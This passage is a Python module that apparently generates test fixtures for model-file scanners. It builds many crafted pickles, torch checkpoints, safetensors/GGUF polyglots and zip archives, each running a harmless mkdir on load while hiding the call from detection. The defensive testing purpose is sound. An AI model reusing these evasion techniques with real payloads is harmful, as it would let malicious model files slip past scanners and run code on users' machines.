"""Files and folders that run something when they are loaded, each hidden in another way.

Each makes one empty folder called `ran` where it is loaded, and nothing else. KINDS: what makes the evasions of each
kind: name → bytes, or a folder as path → bytes. Public ones are from picklescan's, fickling's and modelscan's advisories and issues, and from
PyTorch's (CVE-2025-32434); the others are our own.
"""

import bz2
import gzip
import io
import lzma
import marshal
import pickle
import struct
import zipfile
import zlib

import numpy
import torch
from safety_containers import (
    HARMLESS, HOSTILE, LOAD_BYTES, MAGIC, MKDIR, ORDERED, RAN, RUN, TENSOR, call, checkpoint, dictionary, gguf_that_runs,
    json_of, legacy, load_bytes, member, name, npy, pax, pickled, raw, safetensors_that_run, stack_name, tar, tar_member,
    text, torch_tar, tuple_of, zipped,
)  # fmt: skip
from safety_sandbox import EXTENSION

KINDS = {}


def kind(title):
    """Marks a function that makes the evasions of a kind: name → bytes or folder."""

    def add(function):
        KINDS[title] = function
        return function

    return add


def proto(number, *code):
    return pickled(*code, protocol=number)


def short(value):
    return b"\x8c" + bytes([len(value)]) + value.encode()


ENCODE = name("_codecs", "encode")
PARAMETER = call(name("torch._utils", "_rebuild_parameter_with_state"))
FROM_TYPE = name("torch._tensor", "_rebuild_from_type_v2")
TENSOR_CLASS = name("torch", "Tensor")
REBUILD = name("torch._utils", "_rebuild_tensor_v2")


def encoded(value, encoding):
    """`_codecs.encode(text, encoding)`; with the text as a pickle of protocol 2 has it."""
    return call(ENCODE, text(value), *([text(encoding)] if encoding else []))


@kind("how a name is written")
def names():
    lazily = tuple_of(MKDIR, b"(" + RAN + b"t")
    listed = name("collections", "OrderedDict")
    found = {
        "GLOBAL in protocol 0": b"cposix\nmkdir\n(S'ran'\ntR.",
        "GLOBAL in protocol 0, UNICODE": b"cposix\nmkdir\n(Vran\ntR.",
        "STACK_GLOBAL": proto(4, call(short("posix") + short("mkdir") + b"\x93", RAN)),
        "STACK_GLOBAL of long texts": proto(4, call(stack_name("posix", "mkdir"), RAN)),
        "STACK_GLOBAL of UNICODE with escapes": proto(4, call(b"V\\u0070osix\nVmk\\U00000064ir\n\x93", RAN)),
        "STACK_GLOBAL of STRING": proto(4, call(b"S'posix'\nS'mk\\x64ir'\n\x93", RAN)),
        "STACK_GLOBAL of BINSTRING": proto(4, call(b"T\x05\0\0\0posixU\x05mkdir\x93", RAN)),
        "STACK_GLOBAL of BINUNICODE8": proto(4, call(b"\x8d" + struct.pack("<Q", 5) + b"posix" + short("mkdir") + b"\x93", RAN)),
        "STACK_GLOBAL from the memo": proto(4, short("posix"), b"\x94", short("mkdir"), b"\x9400", call(b"h\0h\1\x93", RAN)),
        "memo written out of order": proto(4, short("mkdir"), b"q\x05", short("posix"), b"q\x02", short("collections"),
                                           b"q\x07000", call(b"h\x02h\x05\x93", RAN)),
        "memo entry written over": proto(4, short("collections"), b"q\0", short("posix"), b"q\0", short("mkdir"), b"q\1", b"000",
                                         call(b"h\0h\1\x93", RAN)),
        "MEMOIZE after PUT": proto(4, short("x"), b"q\x05", short("posix"), b"\x94", short("mkdir"), b"\x94000",
                                   call(b"h\1h\2\x93", RAN)),
        "memo by text keys": proto(4, short("posix"), b"p12345\n", short("mkdir"), b"p0777\n00", call(b"g12345\ng777\n\x93", RAN)),
        "memo entry of a large key": proto(4, short("posix"), b"r\0\0\x10\0", short("mkdir"), b"r\xff\xff\x0f\0", b"00",
                                           call(b"j\0\0\x10\0j\xff\xff\x0f\0\x93", RAN)),
        "names by DUP and POP": proto(4, short("posix"), b"20", short("collections"), b"0", call(short("mkdir") + b"\x93", RAN)),
        "names made by rot13": proto(4, call(encoded("cbfvk", "rot13") + encoded("zxqve", "rot_13") + b"\x93", RAN)),
        "INST": b"(S'ran'\niposix\nmkdir\n.",
        "OBJ": b"(cposix\nmkdir\nS'ran'\no.",
        "NEWOBJ": proto(2, call(listed, name("builtins", "map") + lazily + b"\x81")),
        "NEWOBJ_EX": proto(4, call(listed, name("builtins", "map") + lazily + b"}\x92")),
        "EXT1": proto(2, call(b"\x82" + bytes([EXTENSION]), RAN)),
        "EXT2": proto(2, call(b"\x83" + bytes([EXTENSION, 0]), RAN)),
        "EXT4": proto(2, call(b"\x84" + bytes([EXTENSION, 0, 0, 0]), RAN)),
        "EXT1 as a class": proto(2, b"(\x82" + bytes([EXTENSION]) + RAN + b"o"),
        "REDUCE of a function from the memo": proto(2, MKDIR, b"q\x010", call(b"h\1", RAN)),
        "REDUCE of a function in a tuple's place": proto(2, b"N(", MKDIR, b"q\1t0", call(b"h\1", RAN)),
        "Python 2's names": proto(2, call(name("commands", "getoutput"), text("/bin/mkdir ran"))),
        "Python 2's builtins": proto(2, call(name("__builtin__", "eval"), text("__import__('posix').mkdir('ran')"))),
        "in the middle of a state dict": proto(2, b"}(", text("weight"), TENSOR, text("bias"), RUN, b"u"),
        "as a key": proto(2, b"}", RUN, b"K\1s"),
        "called by BUILD's state": proto(2, ORDERED, dictionary(_metadata=RUN), b"b"),
    }  # fmt: skip
    return found


@kind("a dotted path through a name that weight files need")
def dotted():
    found = {}
    for module, path in [
        ("torch", "serialization.os.mkdir"), ("torch.serialization", "os.mkdir"), ("torch", "_tensor.torch.serialization.os.mkdir"),
        ("torch.storage", "torch.serialization.os.mkdir"), ("collections", "_sys.modules"), ("torch._utils", "sys.modules"),
        ("torch._tensor", "torch.serialization.os.mkdir"), ("torch.nn.parameter", "torch.serialization.os.mkdir"),
        ("torch", "FloatStorage.__init__.__globals__"), ("numpy", "f2py.os.mkdir"), ("numpy", "f2py.cfuncs.sys.modules"),
        ("torch.storage", "TypedStorage._new_shared.__globals__"), ("collections", "Counter.update.__globals__"),
    ]:  # fmt: skip
        if path.endswith("mkdir"):
            found[f"{module}, {path}"] = proto(4, call(stack_name(module, path), RAN))
            found[f"GLOBAL {module}, {path}"] = proto(4, call(name(module, path), RAN))
        else:
            # A dictionary of modules or names, taken apart by functions that weight files need.
            where = stack_name(module, path)
            found[f"BUILD with {module}, {path}"] = proto(
                4, REBUILD, where, b"b0", call(stack_name("torch._utils", "_rebuild_tensor_v2.os.mkdir"), RAN))  # fmt: skip
    found["in a checkpoint: torch, serialization.os.mkdir"] = checkpoint(
        call(stack_name("torch", "serialization.os.mkdir"), RAN), protocol=4)  # fmt: skip
    return found


@kind("what a name that weight files need does with another (BUILD, REDUCE, APPEND)")
def allowed():
    bytes_of = raw(HOSTILE)
    planted = {"__setstate__": bytes_of + b"b", "append": bytes_of + b"a", "add": b"(" + bytes_of + b"\x90"}
    hosts = {
        "OrderedDict": ORDERED, "Counter": call(name("collections", "Counter")), "a function": REBUILD,
        "a parameter": call(name("torch.nn.parameter", "Parameter")), "a bytearray's class": name("builtins", "bytearray"),
        "a tensor": TENSOR, "a storage": call(name("torch", "FloatStorage")), "a storage class": name("torch", "FloatStorage"),
    }  # fmt: skip
    found = {}
    for what, use in planted.items():
        for host, code in hosts.items():
            if host not in ("a parameter", "a tensor", "a bytearray's class"):
                found[f"BUILD sets {what} on {host}"] = checkpoint(code, dictionary(**{what: LOAD_BYTES}), b"b", use)
        state = dictionary(**{what: LOAD_BYTES})
        found[f"BUILD sets {what} by slots"] = checkpoint(ORDERED, b"N", state, b"\x86b", use)
        found[f"BUILD sets {what} on a class by slots"] = checkpoint(name("collections", "Counter"), b"N", state, b"\x86b", use)
        found[f"a parameter's state sets {what}"] = checkpoint(
            call(name("torch._utils", "_rebuild_parameter_with_state"), TENSOR, b"\x89", ORDERED, state), use)
        found[f"a parameter's slots set {what}"] = checkpoint(
            call(name("torch._utils", "_rebuild_parameter_with_state"), TENSOR, b"\x89", ORDERED, b"N" + state + b"\x86"), use)
        found[f"a subclass's state sets {what}"] = checkpoint(
            call(FROM_TYPE, name("collections", "OrderedDict"), name("collections", "OrderedDict"), b")", state), use)
    found["BUILD sets __setstate__, APPENDS"] = checkpoint(ORDERED, dictionary(append=LOAD_BYTES), b"b(", bytes_of, b"e")
    found["BUILD of an object from the memo"] = checkpoint(
        ORDERED, b"q\x010h\1", dictionary(__setstate__=LOAD_BYTES), b"b0h\1", bytes_of, b"b")
    found["BUILD twice, the second harmless"] = checkpoint(
        ORDERED, dictionary(_metadata=ORDERED), b"b", dictionary(append=LOAD_BYTES), b"b", bytes_of, b"a")
    found["_metadata beside append"] = checkpoint(
        ORDERED, dictionary(_metadata=ORDERED, append=LOAD_BYTES), b"b", bytes_of, b"a")
    # A function called without arguments, whose defaults BUILD has set.
    defaults = LOAD_BYTES + b"N" + dictionary(__defaults__=bytes_of + b"\x85") + b"\x86b"
    found["BUILD sets a function's defaults"] = checkpoint(defaults, b")R")
    found["a function's defaults, called as keys()"] = checkpoint(
        b"(", defaults, b"1", call(name("collections", "OrderedDict"), ORDERED + dictionary(keys=LOAD_BYTES) + b"b"))
    found["a function's defaults, called as detach()"] = checkpoint(
        b"(", defaults, b"1", call(name("torch._utils", "_rebuild_parameter"),
                                   ORDERED + dictionary(detach=LOAD_BYTES) + b"b", b"\x89", ORDERED))  # fmt: skip
    found["a function's defaults, called by REDUCE from the memo"] = checkpoint(b"(", defaults, b"1", LOAD_BYTES, b")R")
    # States and arguments of other kinds than usual, or filled after they were made.
    for mapping in ("collections.OrderedDict", "collections.Counter"):
        state = call(name(*mapping.split("."))) + text("append") + LOAD_BYTES + b"s"
        found[f"BUILD's state is a {mapping}"] = checkpoint(ORDERED, state, b"b", bytes_of, b"a")
    found["BUILD's state is filled later"] = checkpoint(
        b"}q\x05(", text("append"), LOAD_BYTES, b"u0", ORDERED, b"h\x05b", bytes_of, b"a")
    found["BUILD's state is _metadata and filled later"] = checkpoint(
        b"}", text("_metadata"), b"Ns", b"q\5", text("append"), LOAD_BYTES, b"s0", ORDERED, b"h\x05b", bytes_of, b"a")
    found["BUILD's key is bytes' text"] = checkpoint(ORDERED, b"}U\x06append", LOAD_BYTES, b"sb", bytes_of, b"a")
    found["REDUCE with a list"] = pickled(MKDIR, b"]" + RAN + b"a", b"R")
    found["REDUCE with a dictionary, names that weight files need"] = pickled(LOAD_BYTES, b"}" + bytes_of + b"Ns", b"R")
    for what, arguments in {"list": b"]" + bytes_of + b"a", "dictionary": b"}" + bytes_of + b"Ns", "set": b"\x8f(" + bytes_of + b"\x90",
                            "list from the memo": b"h\7" + bytes_of + b"a"}.items():  # fmt: skip
        found[f"a subclass rebuilt with a {what}"] = checkpoint(
            b"]q\x070", call(FROM_TYPE, LOAD_BYTES, TENSOR_CLASS, arguments, b"}"), protocol=4)
    found["a function from a list"] = checkpoint(b"]", LOAD_BYTES, b"a0", call(LOAD_BYTES + b"q\x050h\5", bytes_of))
    found["NEWOBJ of a function's name"] = pickled(name("builtins", "bytearray"), b"(" + call(name("builtins", "map"), MKDIR, b"]" + RAN + b"a") + b"t", b"R")
    # What rebuilds a subclass calls what it is given.
    found["a subclass rebuilt by _load_from_bytes"] = checkpoint(
        call(FROM_TYPE, LOAD_BYTES, TENSOR_CLASS, tuple_of(bytes_of), b"}"))
    found["a subclass rebuilt by a subclass"] = checkpoint(
        call(FROM_TYPE, FROM_TYPE, TENSOR_CLASS, tuple_of(LOAD_BYTES, TENSOR_CLASS, tuple_of(bytes_of), b"}"), b"}"))
    deep = tuple_of(LOAD_BYTES, TENSOR_CLASS, tuple_of(bytes_of), b"}")
    for _ in range(4):
        deep = tuple_of(FROM_TYPE, TENSOR_CLASS, deep, b"}")
    found["a subclass rebuilt five deep"] = checkpoint(FROM_TYPE, deep, b"R")
    found["a subclass rebuilt by encode, then loaded"] = checkpoint(
        call(LOAD_BYTES, call(ENCODE, text(HOSTILE.decode("latin1")), text("latin1"))))
    found["as_subclass of what numpy's scalar gives back"] = checkpoint(
        call(FROM_TYPE, name("numpy.core.multiarray", "scalar"), bytes_of,
             tuple_of(call(name("numpy", "dtype"), text("O")), ORDERED + dictionary(as_subclass=LOAD_BYTES) + b"b"), b"}"))
    found["a default factory"] = checkpoint(call(name("collections", "defaultdict"), MKDIR), text("a"), RUN, b"s")
    found["a tensor's hooks"] = checkpoint(
        call(name("torch._utils", "_rebuild_parameter"), TENSOR, b"\x89", ORDERED + text("0") + RUN + b"s"))
    # torch writes a file of the container's name where the source of a module differs and dump_patches is set.
    patched = FROM_TYPE + dictionary(dump_patches=b"\x88") + b"b"
    found["a module's source, written as a patch"] = legacy(
        value=pickled(tuple_of(text("module"), patched, text("f.py"), text("x")), b"Q"))
    found["BUILD of a class from the registry"] = checkpoint(
        b"N", name("torch._utils", "_rebuild_parameter"), dictionary(__setstate__=MKDIR), b"b", RAN, b"b")
    return found


@kind("bytes that torch.load gets, made by names that weight files need")
def bytes_made():
    found = {}
    for encoding in ("utf-8", "utf-7", "utf-16-le", "raw_unicode_escape", "cp037", "cp500", "latin_1", "ISO-8859-1", "L1",
                     "unicode_escape", "cp1252", "utf_8_sig", "ascii"):  # fmt: skip
        data = HOSTILE if encoding not in ("utf-8", "utf-7", "ascii", "utf_8_sig", "cp1252", "unicode_escape") else (
            b"cposix\nmkdir\n(Vran\ntR.")  # fmt: skip
        if encoding == "utf-16-le":
            data += b"." * (len(data) % 2)
        try:
            value = data.decode(encoding)
        except UnicodeDecodeError:
            continue
        found[f"encode, {encoding}"] = checkpoint(call(LOAD_BYTES, encoded(value, encoding)))
    found["encode without an encoding"] = checkpoint(call(LOAD_BYTES, encoded("cposix\nmkdir\n(Vran\ntR.", None)))
    found["encode with errors"] = checkpoint(
        call(LOAD_BYTES, call(ENCODE, text("cposix\nmkdir\n(V\u4e00ran\ntR."), text("ascii"), text("ignore"))))
    # In Latin-1 all of it is a short text, in UTF-8 the text ends where the code begins.
    size = len(HOSTILE) - 1
    faces = chr(2 * size) + "\u00e9" * size + HOSTILE[2:].decode("latin1") + "0"
    assert 2 * size < 128
    found["encode, two readings"] = checkpoint(call(LOAD_BYTES, encoded(
        "L119547037146038801333356L\n.I1001\n.}.U" + faces + "N.].", "utf-8")))  # fmt: skip
    # UNICODE is Latin-1 to CPython. To who takes it for UTF-8 the text goes on where CPython finds the code. There is
    # no line feed in it, and STACK_GLOBAL, which UTF-8 has only as a second byte, follows BINPUT's argument.
    code = b"U\x05posixU\x05mkdirq\xc2\x93(U\x03rantR0"
    size = len(code) - 1
    found["UNICODE, two readings"] = checkpoint(call(LOAD_BYTES, call(
        ENCODE, b"VU" + bytes([2 * size]) + b"\xc3\xa9" * size + code + b".\n", text("latin1"))))
    found["UNICODE with escapes"] = checkpoint(call(LOAD_BYTES, call(
        ENCODE, b"V" + b"".join(b"\\u%04x" % byte for byte in HOSTILE) + b"\n", text("latin1"))))
    dtype = call(name("numpy", "dtype"), text("u1"))
    found["numpy's _frombuffer"] = checkpoint(call(LOAD_BYTES, call(
        name("numpy.core.numeric", "_frombuffer"), raw(HOSTILE), dtype, b"K" + bytes([len(HOSTILE)]) + b"\x85", text("C"))))
    found["numpy's scalar"] = checkpoint(call(LOAD_BYTES, call(
        name("numpy.core.multiarray", "scalar"), call(name("numpy", "dtype"), text(f"S{len(HOSTILE)}")), raw(HOSTILE))))
    array = call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"K\0\x85", raw(b"b"))
    state = tuple_of(b"K\1", b"K" + bytes([len(HOSTILE)]) + b"\x85", dtype, b"\x89", raw(HOSTILE))
    found["numpy's array"] = checkpoint(call(LOAD_BYTES, array + state + b"b"))
    found["a bytearray"] = checkpoint(call(LOAD_BYTES, call(name("builtins", "bytearray"), raw(HOSTILE))))
    found["a bytearray of numbers"] = checkpoint(call(LOAD_BYTES, call(
        name("builtins", "bytearray"), b"(" + b"".join(b"K" + bytes([byte]) for byte in HOSTILE) + b"t")))
    found["bytes of numbers"] = checkpoint(call(LOAD_BYTES, call(
        name("builtins", "bytes"), b"(" + b"".join(b"K" + bytes([byte]) for byte in HOSTILE) + b"t")))
    found["bytes of a size"] = checkpoint(call(LOAD_BYTES, call(name("builtins", "bytes"), call(
        name("torch", "Size"), b"(" + b"".join(b"K" + bytes([byte]) for byte in HOSTILE) + b"t"))))
    found["a bytearray of a text"] = checkpoint(call(LOAD_BYTES, call(
        name("builtins", "bytearray"), text(HOSTILE.decode("cp037")), text("cp037"))))
    found["bytes of a text"] = checkpoint(call(LOAD_BYTES, call(
        name("builtins", "bytes"), text(HOSTILE.decode("utf-16-le") if len(HOSTILE) % 2 == 0 else
                                        (HOSTILE + b".").decode("utf-16-le")), text("utf-16-le"))))  # fmt: skip
    found["BYTEARRAY8"] = checkpoint(call(LOAD_BYTES, b"\x96" + struct.pack("<Q", len(HOSTILE)) + HOSTILE), protocol=5)
    found["BINBYTES8"] = checkpoint(call(LOAD_BYTES, b"\x8e" + struct.pack("<Q", len(HOSTILE)) + HOSTILE), protocol=4)
    found["a READONLY_BUFFER"] = checkpoint(call(LOAD_BYTES, raw(HOSTILE) + b"\x98"), protocol=5)
    found["a bytearray that grows"] = checkpoint(
        call(name("builtins", "bytearray")), b"q\1(", *(b"K" + bytes([byte]) for byte in HOSTILE), b"e0",
        call(LOAD_BYTES, b"h\1"))  # fmt: skip
    found["a bytearray that grows by one"] = checkpoint(
        call(name("builtins", "bytearray"), raw(HOSTILE[:-1])), b"q\1K.a0", call(LOAD_BYTES, b"h\1"))
    deep = HOSTILE
    for number in range(1, 5):
        deep = checkpoint(load_bytes(deep)) if number % 2 else pickled(load_bytes(deep))
        found[f"nested {number} deep"] = deep
    for position in ("magic", "protocol", "system", "value", "keys"):
        found[f"nested legacy, {position}"] = checkpoint(load_bytes(legacy(**{position: legacy_part(position)})))
    found["nested zip, DATA.PKL"] = checkpoint(load_bytes(zipped(("DATA.PKL", HOSTILE), ("data.pkl", HARMLESS), ("version", b"3\n"))))
    return found


def legacy_part(position):
    """The hostile pickle in a position of the legacy container: what is expected there, and a call before it."""
    expected = {"magic": MAGIC, "protocol": b"M\xe9\x03", "system": b"}", "value": b"}", "keys": b"]"}
    return pickled(RUN, b"0", expected[position])


QUIRKS = {
    "INT in base 16": b"I0x10\n", "INT in base 8": b"I0o17\n", "INT in base 2": b"I0b11\n", "INT after a space": b"I 1\n",
    "INT with a sign": b"I+1\n", "INT with underscores": b"I1_0\n", "INT with a zero before it": b"I010\n", "INT true": b"I01\n",
    "INT of many digits": b"I123456789012345678901234567890\n", "INT with a NUL": b"I1\0junk\n", "INT before a return": b"I1\r\n",
    "INT before a space": b"I1 \n", "INT after a tab": b"I\t\x0b\x0c1\n", "INT in other digits": "I\u0661\n".encode(),
    "LONG without L": b"L5\n", "LONG with underscores": b"L1_0L\n", "LONG in base 16": b"L0x10L\n", "LONG after a space": b"L 5L\n",
    "LONG before a space": b"L5 L\n", "LONG in base 2": b"L0b1L\n", "LONG of many digits": b"L" + b"9" * 4000 + b"L\n",
    "LONG with a NUL": b"L5\0\n", "LONG negative": b"L-5L\n", "LONG1 of nothing": b"\x8a\0", "LONG4": b"\x8b\3\0\0\0\1\2\3",
    "LONG4 of nothing": b"\x8b\0\0\0\0", "FLOAT infinite": b"Finf\n", "FLOAT not a number": b"F-NaN\n",
    "FLOAT without a digit before": b"F.5\n", "FLOAT with an exponent": b"F+1e+5\n", "FLOAT after a space": b"F 1.5\n",
    "FLOAT with underscores": b"F1_0.0\n", "FLOAT in base 16": b"F0x1p3\n", "FLOAT of too much": b"F1e999\n",
    "FLOAT with a NUL": b"F1.5\0x\n", "FLOAT before a return": b"F1.5\r\n", "FLOAT infinity in full": b"FInfinity\n",
    "GET with a sign": b"Np1\ng+1\n", "GET after a space": b"Np1\ng 1\n", "GET with zeros": b"Np1\ng0001\n",
    "PUT with underscores": b"Np1_0\ng10\n", "PUT with a sign": b"Np+7\nh\7", "PUT before a space": b"Np7 \nh\7",
    "PUT in other digits": "Np\u0667\nh\7".encode(), "PUT before a return": b"Np7\r\nh\7", "PUT of a large key": b"Np99999\ng99999\n",
    "a lone surrogate in BINUNICODE": b"X\3\0\0\0\xed\xa0\x80", "a lone surrogate in SHORT_BINUNICODE": b"\x8c\3\xed\xbf\xbf",
    "a lone surrogate in BINUNICODE8": b"\x8d\3\0\0\0\0\0\0\0\xed\xa0\x80", "a surrogate in UNICODE": b"V\\ud800\n",
    "a pair of surrogates": b"X\6\0\0\0\xed\xa0\xbd\xed\xb8\x80", "UNICODE with high bytes": b"V\xff\xfe\x80\n",
    "UNICODE with a NUL": b"Va\0b\n", "UNICODE with a backslash": b"Va\\qb\\\\\n", "UNICODE at the end of Unicode": b"V\\U0010ffff\n",
    "UNICODE that ends in a backslash": b"Va\\\n", "UNICODE before a return": b"Va\r\n", "STRING with escapes": b"S'\\x41\\101\\n\\''\n",
    "STRING with an unknown escape": b"S'\\q\\z'\n", "STRING with a large octal": b"S'\\777'\n", "STRING with a quote": b"S\"a'b\"\n",
    "STRING with both quotes": b"S'a'b'\n", "STRING of nothing": b"S''\n", "STRING with high bytes": b"S'\x7f\x01'\n",
    "STRING with a line feed escaped": b"S'a\\r'\n", "STRING with a NUL": b"S'a\0b'\n", "BINSTRING of nothing": b"T\0\0\0\0",
    "FRAME of nothing": b"N\x95" + bytes(8), "FRAME too short": b"\x95\1\0\0\0\0\0\0\0N", "FRAME that ends within an opcode": b"\x95\2" + bytes(7) + b"NX\1\0\0\0a",
    "FRAME in a FRAME": b"\x95\x0b" + bytes(7) + b"N\x95\1" + bytes(7) + b"N", "PROTO again": b"N\x80\5\x80\0", "PROTO 1": b"N\x80\1",
    "READONLY_BUFFER": b"C\1a\x98", "POP of a mark": b"N(0", "POP_MARK": b"N(NNN1", "marks in marks": b"N(((((11111", "DUP of a mark's content": b"(N22t",
    "APPENDS of nothing to nothing": b"N(e", "SETITEMS of nothing to nothing": b"N(u", "ADDITEMS of nothing to nothing": b"N(\x90",
    "APPENDS of nothing to a number": b"K\1(e", "FROZENSET": b"(K\1K\1\x91", "ADDITEMS": b"\x8f(K\1K\2\x90", "DICT of nothing": b"(d",
    "LIST of nothing": b"(l", "a set as a value of a set": b"\x8f(K\1\x85K\2\x90", "MEMOIZE": b"N\x94", "PUT over an entry": b"Nq\0Kaq\0",
    "BINPUT of a mark's first": b"(Nq\1t", "BUILD with nothing": ORDERED + b"}b",
    "SETITEM of a list": b"]K\1aK\0K\2s", "SETITEMS of a list": b"](K\1K\2e(K\0K\5u", "SETITEM of a bytearray": b"\x96\2" + bytes(7) + b"abK\0K\5s",
    "APPEND to a bytearray": b"\x96\2" + bytes(7) + b"abK\5a", "APPENDS to a bytearray": b"\x96\0" + bytes(7) + b"(K\5K\6e",
    "GLOBAL of a class": name("collections", "OrderedDict"), "a name unknown to torch": name("decimal", "Decimal"),
    "an EXT code": b"\x82" + bytes([EXTENSION]), "a text of 300 bytes": text("a" * 300), "a negative BININT": b"J\xff\xff\xff\xff",
}  # fmt: skip


@kind("arguments that CPython takes, before the call")
def quirks():
    return {quirk: pickled(code, b"0", RUN) for quirk, code in QUIRKS.items()}


@kind("the same in a checkpoint's pickle, the call by a name that weight files need")
def quirks_nested():
    hidden = call(FROM_TYPE, LOAD_BYTES, TENSOR_CLASS, tuple_of(raw(HOSTILE)), b"}")
    return {quirk: checkpoint(code, b"0", hidden) for quirk, code in list(QUIRKS.items())[::3]}


@kind("sound as safetensors or GGUF, and a pickle with such an argument")
def polyglots():
    found = {f"safetensors, {quirk}": safetensors_that_run(code + b"0" + RUN + b".") for quirk, code in QUIRKS.items()}
    found["safetensors"] = safetensors_that_run(RUN + b".")
    found["safetensors, a name that weight files need"] = safetensors_that_run(load_bytes(HOSTILE) + b".")
    found["safetensors, INST"] = safetensors_that_run(b"(" + RAN + b"iposix\nmkdir\n.")
    found["safetensors, an EXT code"] = safetensors_that_run(call(b"\x82" + bytes([EXTENSION]), RAN) + b".")
    found["safetensors, a second pickle"] = safetensors_that_run(b"." + HOSTILE)
    found["safetensors, a third pickle"] = safetensors_that_run(b"." + HARMLESS + HOSTILE)
    found["GGUF"] = gguf_that_runs(RUN + b".")
    found["GGUF, a lone surrogate"] = gguf_that_runs(b"X\3\0\0\0\xed\xa0\x80" + RUN + b".")
    found["GGUF, an EXT code"] = gguf_that_runs(call(b"\x82" + bytes([EXTENSION]), RAN) + b".")
    return found


@kind("an error after the call")
def errors():
    after = {
        "cut off": b"", "cut off in an opcode": b"X\xff\0\0\0a", "garbage": b"\xff\xff\xff", "a NUL": b"\0", "PROTO 9": b"\x80\x09N.",
        "an unhashable key": b"0}]K\1s.", "an empty stack": b"00000.", "no such memo entry": b"h\xee.", "bad UTF-8": b"X\1\0\0\0\xff.",
        "a persistent id": b"K\1Q.", "a text persistent id": b"Pabc\n.", "NEXT_BUFFER": b"\x97.", "no such module": b"cno_such_module\nx\n.",
        "FRAME of too much": b"\x95\xff\xff\xff\xff\0\0\0\0.", "a negative LONG4": b"\x8b\xff\xff\xff\xff.", "a negative BINSTRING": b"T\xff\xff\xff\xff.",
        "an unknown EXT code": b"\x84\xff\xff\xff\x7f.", "a huge BINBYTES8": b"\x8e\xff\xff\xff\xff\xff\xff\xff\x7f.", "an INT that is none": b"Ix\n.",
        "a STRING without quotes": b"Sx\n.", "a mark that is missing": b"t.", "REDUCE of nothing": b"N)R.", "zeros": bytes(64),
    }  # fmt: skip
    found = {what: b"\x80\2" + RUN + code for what, code in after.items()}
    found["in a zip, cut off"] = zipped(("data.pkl", b"\x80\2" + RUN), ("version", b"3\n"))
    found["in a zip, garbage"] = zipped(("data.pkl", b"\x80\2" + RUN + b"\0\xff"), ("version", b"3\n"))
    found["in a zip, by names that weight files need"] = zipped(("data.pkl", b"\x80\2" + load_bytes(HOSTILE) + b"\xff"), ("version", b"3\n"))
    found["in the legacy container, cut off"] = legacy(value=b"\x80\2" + RUN, keys=b" ")
    found["nothing before it"] = RUN
    return found


@kind("what follows STOP, and the legacy container's five pickles")
def followers():
    first = pickle.dumps({"a": 1}, 2)
    found = {
        "a second pickle": first + HOSTILE, "a third pickle": first + first + HOSTILE, "a tenth pickle": first * 9 + HOSTILE,
        "a second pickle of another protocol": pickle.dumps([1], 0) + b"(S'ran'\niposix\nmkdir\n.",
        "a second pickle by INST": first + b"(S'ran'\niposix\nmkdir\n.", "a second pickle by OBJ": first + b"(cposix\nmkdir\nS'ran'\no.",
        "a second pickle by EXT": first + proto(2, call(b"\x82" + bytes([EXTENSION]), RAN)), "a second pickle without PROTO": first + HOSTILE[2:],
        "a second pickle that is nested": first + pickled(load_bytes(HOSTILE)), "a second pickle, cut off": first + HOSTILE[:-1],
        "a checkpoint's pickle, then another": zipped(("data.pkl", HARMLESS + HOSTILE), ("version", b"3\n")),
        "magic in LONG": legacy(magic=b"L119547037146038801333356L\n.", value=HOSTILE),
        "magic in LONG4": legacy(magic=b"\x8b\x0a\0\0\0" + MAGIC[2:] + b".", value=HOSTILE),
        "magic in INT": legacy(magic=b"I0x1950a86a20f9469cfc6c\n.", value=HOSTILE),
        "magic from the memo": legacy(magic=pickled(MAGIC, b"q\0N0"), value=HOSTILE),
        "magic in a FRAME": legacy(magic=b"\x80\4\x95\x0e" + bytes(7) + MAGIC + b"q\0.", value=HOSTILE),
        "magic, protocol 5": legacy(magic=proto(5, MAGIC), value=HOSTILE), "magic after POP": legacy(magic=pickled(b"N0", MAGIC), value=HOSTILE),
        "legacy, a sixth pickle": legacy() + HOSTILE, "legacy, between pickles": legacy(system=HARMLESS[:-1] + b"0N." + HOSTILE),
        "legacy, protocol that is true": legacy(protocol=b"I0x3e9\n.", value=HOSTILE),
        "legacy, persistent id that is called": legacy(value=pickled(tuple_of(text("storage"), RUN), b"Q")),
        "legacy, names that weight files need": legacy(value=pickled(load_bytes(HOSTILE))),
        "legacy, keys by names that weight files need": legacy(keys=pickled(load_bytes(HOSTILE))),
    }  # fmt: skip
    for position in ("magic", "protocol", "system", "value", "keys"):
        found[f"legacy, {position}"] = legacy(**{position: legacy_part(position)})
        found[f"legacy, {position}, cut off"] = legacy(**{position: b"\x80\2" + RUN})[: -2 if position != "keys" else None]
    return found


@kind("zips")
def zips():
    benign, hostile = ("data.pkl", HARMLESS), ("data.pkl", HOSTILE)
    version = ("version", b"3\n")
    found = {
        "plain": zipped(hostile, version), "DATA.PKL": zipped(("DATA.PKL", HOSTILE), version),
        "Data.Pkl before data.pkl": zipped(("Data.Pkl", HOSTILE), benign, version),
        "DATA.PKL after data.pkl": zipped(benign, ("DATA.PKL", HOSTILE), version),
        "data.pkL, root of another case": zipped(member("archive/version", b"3\n"), member("ARCHIVE/DATA.pkl", HOSTILE)),
        "twice, the first hostile": zipped(hostile, benign, version), "twice, the second hostile": zipped(benign, hostile, version),
        "two roots, the first hostile": zipped(member("x/data.pkl", HOSTILE), member("archive/data.pkl", HARMLESS), version),
        "two roots, by a first empty member": zipped(member("x/", b""), benign, member("x/data.pkl", HOSTILE), version),
        "root in another place": zipped(("data.pkl", HOSTILE), version, root="a b\u00e9/.."), "empty root": zipped(member("/data.pkl", HOSTILE), version),
        "root of a backslash": zipped(member("x\\y/data.pkl", HOSTILE), member("x\\y/version", b"3\n")),
        "no root": zipped(hostile, version, root=""), "./ before the name": zipped(member("./data.pkl", HOSTILE), member("./version", b"3\n")),
        "deflated": zipped(member("archive/data.pkl", HOSTILE, method=8), version), "a wrong CRC": zipped(member("archive/data.pkl", HOSTILE, crc=1), version),
        "a CRC of zero": zipped(member("archive/data.pkl", HOSTILE, crc=0), version),
        "encrypted by its flags": zipped(member("archive/data.pkl", HOSTILE, flags=1), version),
        "encrypted by its local flags": zipped(member("archive/data.pkl", HOSTILE, flags=0, local_flags=1), version),
        "strongly encrypted by its flags": zipped(member("archive/data.pkl", HOSTILE, flags=0x40), version),
        "patched by its flags": zipped(member("archive/data.pkl", HOSTILE, flags=0x20), version),
        "masked by its flags": zipped(member("archive/data.pkl", HOSTILE, flags=0x2000), version),
